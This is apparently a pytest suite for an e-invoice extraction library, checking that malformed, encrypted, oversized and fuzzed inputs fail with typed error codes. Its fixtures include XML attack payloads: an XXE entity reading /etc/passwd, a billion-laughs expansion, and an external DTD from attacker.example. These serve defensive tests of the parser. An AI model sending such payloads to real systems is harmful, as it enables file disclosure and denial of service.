"""Hostile and broken input: every bad document becomes a typed FAILED outcome, never an exception."""

from __future__ import annotations

import io
import json
import pickle
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import pytest
from extract_helpers import EINVOICE
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter

from jobs.contract.invoice import DocumentFormat, ExtractionOutcome, FailureCode
from jobs.contract.status import Status
from jobs.extract import ExtractionSettings, extract_document

UBL_NS = (
    'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
    'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"'
)


def _failed(outcome: ExtractionOutcome, code: FailureCode) -> None:
    assert outcome.validation.status is Status.FAILED
    assert outcome.validation.errorCode is code, outcome.validation.errorMessage
    assert outcome.validation.errorMessage
    assert outcome.invoice is None


def _pdf(
    attachment: bytes | None = None, name: str = "factur-x.xml", pages: int = 1, password: str | None = None
) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    if attachment is not None:
        writer.add_attachment(name, attachment)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


XXE = f"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Invoice {UBL_NS}><cbc:ID>&xxe;</cbc:ID></Invoice>""".encode()

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<lolz>&lol3;</lolz>"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice {UBL_NS}><cbc:ID>1</cbc:ID></Invoice>""".encode()


@pytest.mark.parametrize(
    "payload",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, XXE.decode().encode("utf-16"), b"<?xml version='1.0'?><!doctype x><x/>"],
    ids=["xxe", "billion-laughs", "external-dtd", "xxe-utf16", "lowercase-doctype"],
)
def test_unsafe_xml_is_refused(payload: bytes) -> None:
    _failed(extract_document(payload, "invoice.xml"), FailureCode.UNSAFE_XML)


def test_unsafe_xml_inside_a_facturx_pdf_is_refused() -> None:
    outcome = extract_document(_pdf(XXE), "invoice.pdf")
    _failed(outcome, FailureCode.UNSAFE_XML)
    assert outcome.format is DocumentFormat.FACTURX_PDF


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        (b"", FailureCode.EMPTY),
        (b"  \n\t ", FailureCode.EMPTY),
        (b"<Invoice><unclosed>", FailureCode.MALFORMED),
        (f"<Invoice {UBL_NS}><cbc:ID>caf\xe9</cbc:ID></Invoice>".encode("latin-1"), FailureCode.MALFORMED),
        (b"<html><body>hello</body></html>", FailureCode.UNSUPPORTED_FORMAT),
        (b'{"ExpenseDocuments": [', FailureCode.MALFORMED),
        (b'{"a": "\xff\xfe"}', FailureCode.MALFORMED),
        (b"[" * 100_000 + b"]" * 100_000, FailureCode.MALFORMED),
        (b"<a>" * 5_000 + b"</a>" * 5_000, FailureCode.MALFORMED),
        (b'{"hello": "world"}', FailureCode.UNSUPPORTED_FORMAT),
        (b'{"invoiceNumber": "1", "totalAmount": "lots"}', FailureCode.MALFORMED),
        (b'{"ExpenseDocuments": [], "JobStatus": "FAILED"}', FailureCode.MALFORMED),
        (b'{"ExpenseDocuments": []}', FailureCode.EMPTY),
        (b'{"ExpenseDocuments": "nope"}', FailureCode.MALFORMED),
        (b"PK\x03\x04 a zip file", FailureCode.UNSUPPORTED_FORMAT),
        (b"GIF89a....", FailureCode.UNSUPPORTED_FORMAT),
        (b"\x89PNG\r\n\x1a\n rest", FailureCode.NEEDS_OCR),
        (b"\xff\xd8\xff\xe0 jpeg", FailureCode.NEEDS_OCR),
        (b"II*\x00 tiff", FailureCode.NEEDS_OCR),
        (b"MM\x00* tiff", FailureCode.NEEDS_OCR),
    ],
    ids=[
        "zero-bytes",
        "whitespace",
        "unclosed-xml",
        "invalid-utf8-xml",
        "foreign-xml",
        "truncated-json",
        "invalid-utf8-json",
        "deeply-nested-json",
        "deeply-nested-xml",
        "foreign-json",
        "bad-normalized-json",
        "textract-job-failed",
        "textract-no-documents",
        "textract-bad-shape",
        "zip",
        "gif",
        "png",
        "jpeg",
        "tiff-le",
        "tiff-be",
    ],
)
def test_bad_documents_fail_with_a_code(payload: bytes, code: FailureCode) -> None:
    _failed(extract_document(payload, "upload.bin"), code)


def test_images_are_reported_as_images() -> None:
    assert extract_document(b"\x89PNG\r\n\x1a\n", "scan.png").format is DocumentFormat.IMAGE


def test_input_over_the_limit_is_too_large() -> None:
    outcome = extract_document(b"<x/>" + b" " * 2000, "big.xml", ExtractionSettings(max_input_bytes=1000))
    _failed(outcome, FailureCode.TOO_LARGE)


def test_pdf_without_embedded_xml_needs_ocr() -> None:
    outcome = extract_document(_pdf(), "scan.pdf")
    _failed(outcome, FailureCode.NEEDS_OCR)
    assert outcome.format is DocumentFormat.PDF


def test_pdf_with_an_unrelated_attachment_needs_ocr() -> None:
    _failed(extract_document(_pdf(b"just notes", name="notes.txt"), "scan.pdf"), FailureCode.NEEDS_OCR)


def test_encrypted_pdf_is_refused(corpus: Path) -> None:
    xml = (EINVOICE / "cii" / "EN16931_Einfach.cii.xml").read_bytes()
    outcome = extract_document(_pdf(xml, password="secret"), "locked.pdf")
    _failed(outcome, FailureCode.ENCRYPTED)
    assert outcome.format is DocumentFormat.PDF


def test_truncated_pdf_is_malformed(corpus: Path) -> None:
    data = (EINVOICE / "facturx-pdf" / "EN16931_Einfach.pdf").read_bytes()
    _failed(extract_document(data[: len(data) // 2], "cut.pdf"), FailureCode.MALFORMED)


def test_garbage_with_a_pdf_header_is_malformed() -> None:
    _failed(extract_document(b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n", "x.pdf"), FailureCode.MALFORMED)


def test_oversized_attachment_is_too_large(corpus: Path) -> None:
    xml = (EINVOICE / "cii" / "EN16931_Einfach.cii.xml").read_bytes()
    outcome = extract_document(_pdf(xml), "big.pdf", ExtractionSettings(max_attachment_bytes=1000))
    _failed(outcome, FailureCode.TOO_LARGE)


def test_too_many_pages_is_too_large(corpus: Path) -> None:
    xml = (EINVOICE / "cii" / "EN16931_Einfach.cii.xml").read_bytes()
    _failed(
        extract_document(_pdf(xml, pages=3), "long.pdf", ExtractionSettings(max_pdf_pages=2)), FailureCode.TOO_LARGE
    )


def test_facturx_built_with_pypdf_is_read(corpus: Path) -> None:
    # Our own writer path: the attachment only in the /EmbeddedFiles name tree, no /AF.
    xml = (EINVOICE / "ubl" / "EN16931_Einfach.ubl.xml").read_bytes()
    outcome = extract_document(_pdf(xml, name="xrechnung.xml"), "x.pdf")
    assert outcome.format is DocumentFormat.FACTURX_PDF
    assert outcome.validation.status is Status.PROCESSED
    assert outcome.raw["attachment"] == "xrechnung.xml"


@pytest.mark.parametrize(
    ("folder", "suffix", "fmt"),
    [
        ("ubl", ".ubl.xml", DocumentFormat.UBL),
        ("cii", ".cii.xml", DocumentFormat.CII),
        ("facturx-pdf", ".pdf", DocumentFormat.FACTURX_PDF),
    ],
)
@pytest.mark.parametrize("wrong_name", ["invoice.json", "invoice.png", "invoice", "invoice.pdf.exe"])
def test_format_is_detected_by_content_not_extension(
    corpus: Path, folder: str, suffix: str, fmt: DocumentFormat, wrong_name: str
) -> None:
    data = (EINVOICE / folder / f"EN16931_Einfach{suffix}").read_bytes()
    outcome = extract_document(data, wrong_name)
    assert outcome.format is fmt
    assert outcome.validation.status is Status.PROCESSED


def test_xml_with_bom_and_leading_whitespace_is_read(corpus: Path) -> None:
    data = (EINVOICE / "cii" / "EN16931_Einfach.cii.xml").read_bytes()
    outcome = extract_document(b"\xef\xbb\xbf" + data, "bom.xml")
    assert outcome.validation.status is Status.PROCESSED


def test_large_xml_keeps_a_summary_instead_of_the_text(corpus: Path) -> None:
    data = (EINVOICE / "ubl" / "EN16931_Einfach.ubl.xml").read_bytes()
    outcome = extract_document(data, "x.xml", ExtractionSettings(max_raw_xml_bytes=100))
    assert "xml" not in outcome.raw and outcome.raw["bytes"] == len(data)
    json.dumps(outcome.raw)


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=400)
    | st.sampled_from([b"%PDF-", b"<", b"{", b"["]).flatmap(
        lambda head: st.binary(max_size=200).map(lambda tail: head + tail)
    )
)
def test_arbitrary_bytes_never_raise(data: bytes) -> None:
    outcome = extract_document(data, "fuzz")
    assert outcome.validation.status in (Status.FAILED, Status.REVIEW_REQUIRED, Status.PROCESSED)
    if outcome.validation.status is Status.FAILED:
        assert outcome.validation.errorCode is not FailureCode.INTERNAL, outcome.validation.errorMessage


def test_extract_document_runs_in_a_process_pool(corpus: Path) -> None:
    data = (EINVOICE / "cii" / "EN16931_Einfach.cii.xml").read_bytes()
    pickle.dumps(ExtractionSettings())
    with ProcessPoolExecutor(max_workers=1) as pool:
        outcome = pool.submit(extract_document, data, "x.xml", ExtractionSettings()).result(timeout=60)
    assert outcome.validation.status is Status.PROCESSED
